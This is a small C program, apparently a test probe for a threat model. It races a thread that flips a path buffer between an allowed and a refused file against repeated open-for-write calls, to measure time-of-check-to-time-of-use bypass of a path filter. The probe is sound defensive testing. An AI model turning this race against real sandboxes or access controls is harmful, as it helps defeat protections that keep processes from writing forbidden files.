/* Race probe (threat model #11): thread B flips a path buffer between ALLOWED and REFUSED (same
 * length) while thread A opens it with O_WRONLY|O_CREAT, N times (default 100000).
 * Prints how many opens succeeded and how many failed. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static char buf[4096];
static const char *paths[2];
static atomic_int stop;

static void *flipper(void *arg) {
    (void)arg;
    size_t n = strlen(paths[0]) + 1;
    while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
        memcpy(buf, paths[1], n);
        memcpy(buf, paths[0], n);
    }
    return NULL;
}

int main(int argc, char **argv) {
    if (argc < 3 || strlen(argv[1]) != strlen(argv[2])) {
        fprintf(stderr, "usage: toctou ALLOWED REFUSED [N] (paths of equal length)\n");
        return 2;
    }
    paths[0] = argv[1];
    paths[1] = argv[2];
    long n = argc > 3 ? atol(argv[3]) : 100000, ok = 0, failed = 0;
    strcpy(buf, paths[0]);
    pthread_t t;
    pthread_create(&t, NULL, flipper, NULL);
    for (long i = 0; i < n; i++) {
        int fd = open(buf, O_WRONLY | O_CREAT, 0600);
        if (fd >= 0) { ok++; close(fd); } else failed++;
    }
    atomic_store(&stop, 1);
    pthread_join(t, NULL);
    printf("opened %ld failed %ld\n", ok, failed);
    return 0;
}
